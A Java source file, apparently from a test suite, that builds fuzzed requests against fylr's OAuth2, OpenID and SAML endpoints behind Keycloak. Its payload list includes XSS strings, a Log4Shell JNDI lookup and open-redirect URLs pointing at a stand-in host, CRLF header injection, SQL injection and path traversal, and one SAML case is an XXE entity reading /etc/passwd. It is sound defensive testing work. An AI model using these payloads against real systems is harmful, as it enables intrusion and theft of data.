package io.github.keycloakfylr.fuzz;

import io.github.keycloakfylr.client.AlteredToken;
import io.github.keycloakfylr.client.FylrApi;
import java.io.ByteArrayOutputStream;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.stream.Collectors;

/**
 * Makes requests for fylr's endpoints that are good in most of their parts and bad in some. Each one follows from seed
 * and number alone, but for the {@link KnownValues} in it.
 */
final class RequestGenerator {

    /** Stands in markup, and must come back in no page as it is. */
    static final String MARKUP = "<fz";

    /** Stands where an attribute could be left. */
    static final String ATTRIBUTE = "\" fz=\"";

    /** The name of a header, and the beginning of a line of the log, that requests try to make. */
    static final String INJECTED = "X-Fuzz-Injected";

    /** A host that nobody may be sent to. */
    static final String EVIL = "fuzz-evil.example";

    private static final String FORM = "application/x-www-form-urlencoded";
    private static final String BOUNDARY = "----fuzz7f3a";

    private static final Map<String, List<String>> PARAMETERS = Map.of(
            "/api/oauth2/token",
            List.of(
                    "grant_type",
                    "grant_type",
                    "client_id",
                    "client_id",
                    "client_secret",
                    "code",
                    "redirect_uri",
                    "code_verifier",
                    "username",
                    "password",
                    "scope",
                    "refresh_token",
                    "client_assertion",
                    "client_assertion_type",
                    "subject_token",
                    "assertion",
                    "device_code",
                    "audience",
                    "requested_token_type"),
            "/api/oauth2/revoke",
            List.of("token", "token", "token_type_hint", "client_id", "client_secret", "client_assertion"),
            "/api/oauth2/introspect",
            List.of("token", "token", "token_type_hint", "client_id", "client_secret", "client_assertion"),
            "/api/oauth2/userinfo",
            List.of("access_token", "access_token", "client_id", "schema"),
            "/api/oauth2/auth",
            List.of(
                    "response_type",
                    "response_type",
                    "client_id",
                    "client_id",
                    "redirect_uri",
                    "redirect_uri",
                    "state",
                    "state",
                    "scope",
                    "nonce",
                    "auth_method",
                    "prompt",
                    "max_age",
                    "login_hint",
                    "ui_locales",
                    "code_challenge",
                    "code_challenge_method",
                    "login",
                    "password",
                    "id_token_hint",
                    "acr_values",
                    "request",
                    "request_uri",
                    "response_mode",
                    "claims",
                    "kc_idp_hint",
                    "kc_action",
                    "secret",
                    "action_code",
                    "execution",
                    "session_code",
                    "tab_id",
                    "client_data",
                    "kc_locale"),
            "/oauth2/callback",
            List.of("code", "state", "state", "error", "error_description", "session_state", "iss", "redirect"),
            "/api/saml/acs",
            List.of("SAMLResponse", "SAMLRequest", "RelayState", "SigAlg", "Signature", "SAMLEncoding"),
            "/api/saml/slo",
            List.of("SAMLResponse", "SAMLRequest", "RelayState", "SigAlg", "Signature", "SAMLart"));

    private static final List<String> PATHS = List.of(
            "/api/oauth2/token",
            "/api/oauth2/token",
            "/api/oauth2/token",
            "/api/oauth2/revoke",
            "/api/oauth2/introspect",
            "/api/oauth2/introspect",
            "/api/oauth2/userinfo",
            "/api/oauth2/userinfo",
            "/api/oauth2/auth",
            "/api/oauth2/auth",
            "/api/oauth2/auth",
            "/oauth2/callback",
            "/oauth2/callback",
            "/.well-known/openid-configuration",
            "/api/oauth2/jwks",
            "/api/saml/acs",
            "/api/saml/slo",
            "/api/saml/metadata",
            "/realms/fylr/fylr/auth",
            "/realms/fylr/fylr/saml/acs",
            "/realms/fylr/fylr/saml/slo");

    private static final List<String> METHODS = List.of(
            "GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND", "FOO", "get", "M-SEARCH");

    private static final List<String> HOSTILE = List.of(
            "<fz onload=alert(1)>",
            "\"><fz src=x onerror=alert(1)>",
            "' fz='\" fz=\"",
            "</script><fz>",
            "${7*7}<fz>",
            "${jndi:ldap://fuzz-evil.example/x}",
            "x\r\nX-Fuzz-Injected: 1",
            "x\nX-Fuzz-Injected line of the log",
            "x\u0000y",
            "x\u001b[2Jy",
            "x\u0085y",
            "x\u2028y",
            "https://fuzz-evil.example/",
            "//fuzz-evil.example/",
            "/\\fuzz-evil.example",
            "https://fuzz-evil.example@localhost/",
            "https://localhost#@fuzz-evil.example/",
            "https://fuzz-evil.example\\.web.fylr.dev/",
            "https://fuzz-evil.example/.web.fylr.dev",
            "{\"redirect\":\"https://fuzz-evil.example/\"}",
            "{\"redirect\":[\"/\"],\"redirect\":{}}",
            "{\"redirect\":\"" + "\\u0000" + "\"}",
            "[".repeat(1500),
            "{\"a\":".repeat(600),
            "javascript:alert(1)//<fz>",
            "data:text/html,<fz>",
            "' OR '1'='1",
            "%00",
            "%2e%2e%2f",
            "%",
            "*",
            ",",
            ",,,",
            " ",
            "\u00fc\u00df\u20ac",
            "\ud83d\ude00",
            "\u202eabc",
            "\ufeff",
            "e\u0301".repeat(50),
            "null",
            "undefined",
            "true",
            "0",
            "-1",
            "1e999",
            "2147483648",
            "9223372036854775808",
            "NaN",
            "a".repeat(499),
            "a".repeat(501),
            "a".repeat(3999),
            "a".repeat(4001),
            "openid ".repeat(100),
            "urn:ietf:params:oauth:grant-type:token-exchange",
            "urn:ietf:params:oauth:grant-type:device_code",
            "urn:openid:params:grant-type:ciba",
            "urn:ietf:params:oauth:grant-type:uma-ticket",
            "..",
            ".",
            "eyJhbGciOiJub25lIn0.e30.",
            "fylr_at1_",
            "fylr_rt1_AAAA");

    private static final List<String> ORIGINS = List.of(
            "https://fuzz-evil.example",
            "null",
            "https://branch.web.fylr.dev",
            "http://localhost:1234",
            "file://",
            "%%%",
            "https://a b",
            "http://[::1",
            "https://fuzz-evil.example, https://branch.web.fylr.dev");

    private static final List<String> ACCEPTS = List.of(
            "text/html",
            "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8",
            "application/json",
            "*/*",
            "image/png",
            ";;;",
            "text/html;q=fz",
            "*",
            "text/",
            "text/html;charset=<fz>",
            "application/xml");

    private final long seed;
    private final KnownValues known;
    private final String ownHost;

    /**
     * Creates the generator.
     *
     * @param ownHost of the server, with its port
     */
    RequestGenerator(long seed, KnownValues known, String ownHost) {
        this.seed = seed;
        this.known = known;
        this.ownHost = ownHost;
    }

    /** The request of that number. */
    FuzzRequest request(int number) {
        return new One(number, new Random(seed * 1_000_003 + number)).make();
    }

    /** One request in the making. */
    private final class One {

        private final int number;
        private final Random random;
        private final List<FuzzRequest.Header> headers = new ArrayList<>();

        One(int number, Random random) {
            this.number = number;
            this.random = random;
        }

        FuzzRequest make() {
            String endpoint = pick(PATHS);
            String method = method(endpoint);
            List<Pair> pairs = pairs(endpoint);
            addHeaders();
            boolean inBody = method.equals("POST") && !chance(10) || chance(3);
            if (!inBody) {
                String query = query(pairs);
                return new FuzzRequest(
                        number,
                        method,
                        path(endpoint) + (query.isEmpty() ? "" : "?" + query),
                        headers,
                        new byte[0],
                        false);
            }
            byte[] body = body(pairs);
            String query = chance(10) ? "?" + query(pairs(endpoint)) : "";
            return new FuzzRequest(number, method, path(endpoint) + query, headers, body, chance(5));
        }

        private boolean chance(int percent) {
            return random.nextInt(100) < percent;
        }

        private <T> T pick(List<T> values) {
            return values.get(random.nextInt(values.size()));
        }

        private String method(String endpoint) {
            if (endpoint.startsWith("/realms/")) {
                // No form: below a realm Keycloak reads it before anybody else does, and returns 500 to a bad one.
                return pick(List.of("GET", "GET", "GET", "HEAD", "DELETE"));
            }
            if (chance(12)) {
                return pick(METHODS);
            }
            return switch (endpoint) {
                case "/api/oauth2/token", "/api/oauth2/revoke", "/api/oauth2/introspect" -> "POST";
                case "/api/oauth2/auth", "/api/oauth2/userinfo", "/api/saml/acs", "/api/saml/slo" ->
                    chance(50) ? "GET" : "POST";
                default -> "GET";
            };
        }

        private String path(String endpoint) {
            if (!chance(12)) {
                return endpoint;
            }
            return switch (random.nextInt(12)) {
                case 0 -> endpoint + "/";
                case 1 -> endpoint + ";fz=1";
                case 2 -> "/" + endpoint;
                case 3 -> endpoint.replaceFirst("/(\\w)", "/%2e/$1");
                case 4 -> endpoint.replace("oauth2", "OAuth2");
                case 5 -> endpoint.replace("/api/", "/api%2f");
                case 6 -> endpoint + "/../token";
                case 7 -> endpoint + "%00";
                case 8 -> endpoint + "/%3Cfz%3E%22";
                case 9 -> "/api/v1/" + percent("<fz>" + random.nextInt(1000));
                case 10 -> "/api/" + "x/".repeat(random.nextInt(600));
                default -> endpoint.replaceFirst("^/", "/%ff");
            };
        }

        // parameters

        /** Name and value, decoded. */
        private record Pair(String name, String value) {}

        private List<Pair> pairs(String endpoint) {
            String own = endpoint.replace("/realms/fylr/fylr/", "/api/").replace("/api/auth", "/api/oauth2/auth");
            List<String> names = PARAMETERS.getOrDefault(own, List.of("x"));
            List<Pair> pairs = new ArrayList<>();
            if (chance(70)) {
                // What the endpoint cannot do without, so that the rest is looked at.
                required(own).forEach(name -> pairs.add(new Pair(name, value(name, 85))));
            }
            int more = random.nextInt(5);
            for (int i = 0; i < more; i++) {
                String name = pick(names);
                if (chance(90) && pairs.stream().anyMatch(pair -> pair.name().equals(name))) {
                    continue;
                }
                pairs.add(new Pair(chance(4) ? pick(HOSTILE) : name, value(name, 55)));
            }
            if (chance(1)) {
                for (int i = 0; i < 150; i++) {
                    pairs.add(new Pair("p" + i, "x"));
                }
            }
            return pairs;
        }

        private List<String> required(String endpoint) {
            return switch (endpoint) {
                case "/api/oauth2/token" ->
                    switch (random.nextInt(8)) {
                        case 0, 1, 2 -> List.of("grant_type", "client_id", "code", "redirect_uri", "code_verifier");
                        case 3, 4 -> List.of("grant_type", "client_id", "refresh_token");
                        case 5 -> List.of("grant_type", "client_id", "username", "password", "scope");
                        default -> List.of("grant_type", "client_id", "client_secret");
                    };
                case "/api/oauth2/revoke", "/api/oauth2/introspect" -> List.of("token");
                case "/api/oauth2/userinfo" -> List.of("access_token");
                case "/api/oauth2/auth" ->
                    List.of("response_type", "client_id", "redirect_uri", "state", "auth_method");
                case "/oauth2/callback" -> List.of("code", "state");
                case "/api/saml/acs", "/api/saml/slo" -> List.of("SAMLResponse");
                default -> List.of();
            };
        }

        private String value(String name, int good) {
            if (name.startsWith("SAMLRe") && chance(80)) {
                return samlMessage();
            }
            boolean isToken = known.values().get(name) == known.tokens();
            if (isToken && chance(60)) {
                return AlteredToken.any(pick(known.tokens()), random);
            }
            if (known.values().containsKey(name) && chance(good)) {
                return pick(known.values().get(name));
            }
            return switch (random.nextInt(6)) {
                case 0 -> pick(pick(List.copyOf(known.values().values())));
                case 1 -> text();
                case 2 -> pick(HOSTILE) + text();
                case 3 -> "";
                default -> pick(HOSTILE);
            };
        }

        private String text() {
            return random.ints(random.nextInt(60), 0, 0x3000)
                    .filter(Character::isDefined)
                    .mapToObj(Character::toString)
                    .collect(Collectors.joining());
        }

        private String samlMessage() {
            String xml =
                    switch (random.nextInt(6)) {
                        case 0 ->
                            "<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\" ID=\"fz\" Version=\"2.0\"/>";
                        case 1 -> "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>";
                        case 2 ->
                            "<samlp:LogoutRequest xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\" ID=\"fz\" Version=\"2.0\""
                                    + " IssueInstant=\"2026-01-01T00:00:00Z\" Destination=\"http://" + ownHost
                                    + "/api/saml/slo\"/>";
                        case 3 -> "<fz";
                        case 4 -> pick(HOSTILE);
                        default -> "<a>".repeat(random.nextInt(2000));
                    };
            String encoded = Base64.getEncoder().encodeToString(xml.getBytes(StandardCharsets.UTF_8));
            return chance(20) ? AlteredToken.any(encoded + "abc", random) : encoded;
        }

        // encodings

        private String query(List<Pair> pairs) {
            return pairs.stream()
                    .map(pair -> encoded(pair.name(), false) + "=" + encoded(pair.value(), false))
                    .collect(Collectors.joining("&"));
        }

        private String form(List<Pair> pairs) {
            return pairs.stream()
                    .map(pair -> chance(2)
                            ? encoded(pair.name(), true)
                            : encoded(pair.name(), true) + "=" + encoded(pair.value(), true))
                    .collect(Collectors.joining(chance(2) ? ";" : chance(2) ? "&&" : "&"));
        }

        /** In characters that stand for one byte each. */
        private String encoded(String text, boolean raw) {
            if (!chance(7)) {
                return percent(text);
            }
            return switch (random.nextInt(raw ? 7 : 5)) {
                case 0 -> percent(percent(text));
                case 1 -> percent(text) + "%ZZ";
                case 2 -> percent(text) + "%";
                case 3 -> percent(text) + "%C0%AF%FF";
                case 4 -> everyByte(text);
                case 5 -> latin(text.getBytes(StandardCharsets.UTF_8));
                default -> percent(text) + "\u00ff\u0001";
            };
        }

        private String everyByte(String text) {
            StringBuilder all = new StringBuilder();
            for (byte one : text.substring(0, Math.min(text.length(), 1000)).getBytes(StandardCharsets.UTF_8)) {
                all.append(String.format(random.nextBoolean() ? "%%%02x" : "%%%02X", one & 0xff));
            }
            return all.toString();
        }

        private String percent(String text) {
            return URLEncoder.encode(text, StandardCharsets.UTF_8);
        }

        private String latin(byte[] bytes) {
            return new String(bytes, StandardCharsets.ISO_8859_1);
        }

        // body

        private byte[] body(List<Pair> pairs) {
            if (chance(12)) {
                return multipart(pairs);
            }
            String type = chance(88) ? FORM : mediaType();
            if (!type.isEmpty()) {
                header("Content-Type", type);
            }
            if (chance(2)) {
                header("Content-Type", mediaType());
            }
            if (chance(1)) {
                return new byte[70_000 + random.nextInt(500_000)];
            }
            if (chance(3)) {
                byte[] bytes = new byte[random.nextInt(2000)];
                random.nextBytes(bytes);
                return bytes;
            }
            return form(pairs).getBytes(StandardCharsets.ISO_8859_1);
        }

        private String mediaType() {
            return pick(List.of(
                    "",
                    FORM + ";charset=utf-16",
                    FORM.toUpperCase(Locale.ROOT),
                    FORM + "; charset=\"<fz>\"",
                    "application/json",
                    "text/plain",
                    "multipart/form-data",
                    "multipart/form-data; boundary=",
                    "multipart/mixed; boundary=" + BOUNDARY,
                    "*/*",
                    "text",
                    ";;;",
                    "/",
                    "application/xml",
                    "a".repeat(3000) + "/b"));
        }

        private byte[] multipart(List<Pair> pairs) {
            header(
                    "Content-Type",
                    "multipart/form-data; boundary="
                            + (chance(90) ? BOUNDARY : chance(50) ? "\"" + BOUNDARY : "other"));
            String end = chance(95) ? "\r\n" : "\n";
            ByteArrayOutputStream body = new ByteArrayOutputStream();
            for (Pair pair : pairs) {
                String disposition = "form-data; name=\"" + pair.name().replace("\"", "%22") + "\"";
                if (chance(5)) {
                    disposition += pick(List.of(
                            "; filename=\"x.txt\"",
                            "; filename*=UTF-8''<fz>",
                            "; name=\"twice\"",
                            ";;;",
                            "; name*0=a",
                            "\r\n folded",
                            "; x=\"" + "y".repeat(5000)));
                }
                String head = "--" + BOUNDARY + end
                        + (chance(97) ? "Content-Disposition: " + disposition + end : "")
                        + (chance(5)
                                ? pick(List.of(
                                                "Content-Transfer-Encoding: base64",
                                                "Content-Transfer-Encoding: fz",
                                                "Content-Type: text/html",
                                                "Content-Type: multipart/mixed; boundary=inner",
                                                "no header at all"))
                                        + end
                                : "")
                        + end;
                body.writeBytes(head.getBytes(StandardCharsets.UTF_8));
                body.writeBytes(pair.value().getBytes(StandardCharsets.UTF_8));
                body.writeBytes(end.getBytes(StandardCharsets.UTF_8));
            }
            if (chance(95)) {
                body.writeBytes(("--" + BOUNDARY + "--" + end).getBytes(StandardCharsets.UTF_8));
            }
            return body.toByteArray();
        }

        // headers

        private void header(String name, String value) {
            headers.add(new FuzzRequest.Header(name, latin(value.getBytes(StandardCharsets.UTF_8))));
        }

        private void addHeaders() {
            header(
                    "Host",
                    chance(93)
                            ? ownHost
                            : pick(List.of(
                                    "",
                                    "fuzz_host",
                                    KnownValues.OTHER_HOST,
                                    "12345",
                                    "[::1]",
                                    "a:b:c",
                                    "fuzz-evil.example:99999",
                                    "x".repeat(300))));
            if (chance(35)) {
                header("Accept", pick(ACCEPTS));
            }
            if (chance(20)) {
                header(chance(50) ? "Authorization" : "X-Fylr-Authorization", "Bearer " + bearer());
            }
            if (chance(12)) {
                header("Authorization", basic());
            }
            if (chance(15)) {
                header("Origin", pick(ORIGINS));
            }
            if (chance(5)) {
                header("Access-Control-Request-Method", pick(METHODS));
            }
            if (chance(10)) {
                header("Cookie", cookie());
            }
            if (chance(10)) {
                header(
                        pick(List.of(
                                "Accept-Language",
                                "X-Forwarded-Host",
                                "X-Forwarded-Proto",
                                "X-Forwarded-For",
                                "Forwarded",
                                "If-None-Match",
                                "If-Modified-Since",
                                "Range",
                                "Referer",
                                "User-Agent",
                                "Content-Encoding",
                                "X-HTTP-Method-Override",
                                "DPoP",
                                "Content-Language",
                                "Via",
                                "X-Request-Id")),
                        pick(List.of(
                                "de",
                                "de;q=fz",
                                "<fz>",
                                "https",
                                "fuzz-evil.example",
                                "gzip",
                                "for=\"_x\";host=fuzz-evil.example",
                                "*",
                                "bytes=0-1",
                                "\u00fc",
                                "DELETE",
                                "a".repeat(2000),
                                "Sun, 06 Nov 1994 08:49:37 GMT",
                                ",,,")));
            }
        }

        private String bearer() {
            String token = pick(known.tokens());
            return chance(40)
                    ? token
                    : chance(50) ? AlteredToken.REPLACED.of(token, random) : AlteredToken.CUT.of(token, random);
        }

        private String basic() {
            String pair =
                    switch (random.nextInt(6)) {
                        case 0, 1 -> KnownValues.CONFIDENTIAL + ":the-client-secret";
                        case 2 -> KnownValues.CONFIDENTIAL + ":" + pick(HOSTILE);
                        case 3 -> FylrApi.CLIENT + ":";
                        case 4 -> pick(HOSTILE);
                        default -> percent(text()) + ":" + percent(text());
                    };
            String encoded = Base64.getEncoder().encodeToString(pair.getBytes(StandardCharsets.UTF_8));
            return switch (random.nextInt(10)) {
                case 0 -> "Basic " + encoded.substring(0, random.nextInt(encoded.length() + 1));
                case 1 -> "Basic";
                case 2 ->
                    pick(List.of("Digest x", "Negotiate YII=", "DPoP x", ",", "=", "Bearer", "basic\t" + encoded));
                default -> "Basic " + encoded;
            };
        }

        private String cookie() {
            String name = pick(List.of(
                    "fylr-browser-id",
                    "KEYCLOAK_IDENTITY",
                    "KEYCLOAK_SESSION",
                    "AUTH_SESSION_ID",
                    "KC_RESTART",
                    "KC_AUTH_SESSION_HASH",
                    "KEYCLOAK_LOCALE",
                    "KEYCLOAK_REMEMBER_ME",
                    "x"));
            String value =
                    switch (random.nextInt(5)) {
                        case 0 -> pick(known.tokens());
                        case 1 -> AlteredToken.any(pick(known.tokens()), random).substring(0, 1) + "x";
                        case 2 -> "";
                        case 3 -> "\"<fz>\"";
                        default -> percent(pick(HOSTILE)).substring(0, 1) + "a".repeat(random.nextInt(3000));
                    };
            return name + "=" + value + (chance(20) ? "; " + name + "=again" : "");
        }
    }
}
